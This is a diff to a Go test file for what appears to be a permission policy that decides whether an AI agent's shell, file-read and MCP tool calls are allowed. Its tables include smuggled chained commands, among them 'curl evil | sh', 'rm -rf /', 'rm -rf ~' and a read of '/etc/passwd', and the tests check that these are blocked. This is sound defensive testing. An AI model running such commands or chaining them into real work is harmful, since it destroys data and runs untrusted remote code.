@@ -91,10 +91,13 @@ func TestGrantFromCLIRule(t *testing.T) {
 			[]string{"git push origin main"}, []string{"git pushx", "git status"}},
 		{"Bash", "touch ran.txt && echo hello", config.Rule{Tool: "Bash", Match: "touch ran.txt && echo hello", Action: "allow"}, true,
 			[]string{"touch ran.txt && echo hello"}, []string{"touch ran.txt && echo hello; curl evil", "touch ran.txt"}},
-		{"Bash", "ls *.go", config.Rule{Tool: "Bash", Match: `ls \*.go`, Action: "allow"}, true,
+		{"Bash", "ls *.go", config.Rule{Tool: "Bash", Match: `ls *.go`, Action: "allow"}, true,
 			[]string{"ls *.go"}, []string{"ls a.go", "ls *.go; rm -rf /"}},
-		{"Bash", "echo [x]?", config.Rule{Tool: "Bash", Match: `echo \[x\]\?`, Action: "allow"}, true,
+		{"Bash", "echo [x]?", config.Rule{Tool: "Bash", Match: `echo [x]?`, Action: "allow"}, true,
 			[]string{"echo [x]?"}, []string{"echo x!"}},
+		{"Bash", "npm test && curl x:*", config.Rule{}, false, nil, nil}, // a compound prefix is no pattern
+		{"Bash", "ls *", config.Rule{Tool: "Bash", Match: "ls *", Action: "allow"}, true,
+			[]string{"ls *", "ls -la"}, []string{"ls; rm -rf /"}},
 		{"Read", "/srv/docs/*", config.Rule{Tool: "Read", Match: "/srv/docs/*", Action: "allow"}, true,
 			[]string{"/srv/docs/a/b.md"}, []string{"/etc/passwd"}},
 		{"mcp__github__create_issue", "", config.Rule{Tool: "mcp__github__create_issue", Action: "allow"}, true,
@@ -107,13 +110,14 @@ func TestGrantFromCLIRule(t *testing.T) {
 			t.Errorf("grantFromCLIRule(%q, %q) = %+v, %v; want %+v, %v", tt.tool, tt.content, got, ok, tt.want, tt.ok)
 			continue
 		}
+		grants := []store.Grant{{Num: 1, Tool: got.Tool, Match: got.Match}}
 		for _, s := range tt.matches {
-			if !got.Matches(tt.tool, s) {
-				t.Errorf("grant %+v does not allow %q", got, s)
+			if v, g := decidePolicy(nil, grants, tt.tool, s); v.Action != config.ActionAllow || g == nil {
+				t.Errorf("grant %+v does not allow %q: %+v", got, s, v)
 			}
 		}
 		for _, s := range tt.not {
-			if got.Matches(tt.tool, s) {
+			if v, _ := decidePolicy(nil, grants, tt.tool, s); v.Action == config.ActionAllow {
 				t.Errorf("grant %+v allows %q", got, s)
 			}
 		}
@@ -126,22 +130,27 @@ func TestDecidePolicy(t *testing.T) {
 		{Tool: "Bash", Match: "git *", Action: "ask"},
 		{Tool: "Read", Action: "allow"},
 	}
-	grants := []store.Grant{{Num: 1, Tool: "Bash", Match: "rm build/*"}, {Num: 2, Tool: "Bash", Match: "git push *"}, {Num: 3, Tool: "Bash", Match: "make *"}}
+	grants := []store.Grant{{Num: 1, Tool: "Bash", Match: "rm build/x"}, {Num: 2, Tool: "Bash", Match: "git push *"},
+		{Num: 3, Tool: "Bash", Match: "make *"}, {Num: 4, Tool: "Bash", Match: "go vet ./... && go test ./..."}}
 	tests := []struct {
 		subject, tool string
 		action        string // "" = nothing matched
 		byGrant       bool
 	}{
-		{"rm build/x", "Bash", "deny", false},  // the profile's deny comes first
-		{"git push x", "Bash", "ask", false},   // as does its ask
-		{"make test", "Bash", "allow", true},   // then the grants
+		{"rm build/x", "Bash", "deny", false}, // the profile's deny comes first
+		{"git push x", "Bash", "ask", false},  // as does its ask
+		{"make test", "Bash", "allow", true},  // then the grants
+		{"make test && make lint", "Bash", "allow", true},
+		{"make test; curl evil | sh", "Bash", "", false},
+		{"go vet ./... && go test ./...", "Bash", "allow", true}, // an exact compound grant
+		{"go vet ./... && go test ./... && rm -rf ~", "Bash", "deny", false},
 		{"/etc/hosts", "Read", "allow", false}, // a profile allow
 		{"ls", "Bash", "", false},
 	}
 	for _, tt := range tests {
-		rule, byGrant, ok := decidePolicy(profile, grants, tt.tool, tt.subject)
-		if ok != (tt.action != "") || rule.Action != tt.action || byGrant != tt.byGrant {
-			t.Errorf("decidePolicy(%s %q) = %+v byGrant=%v ok=%v; want %q byGrant=%v", tt.tool, tt.subject, rule, byGrant, ok, tt.action, tt.byGrant)
+		v, g := decidePolicy(profile, grants, tt.tool, tt.subject)
+		if v.Action != tt.action || (g != nil) != tt.byGrant {
+			t.Errorf("decidePolicy(%s %q) = %+v grant=%v; want %q byGrant=%v", tt.tool, tt.subject, v, g, tt.action, tt.byGrant)
 		}
 	}
 	if len(profile) != 3 || cap(profile) != 3 {
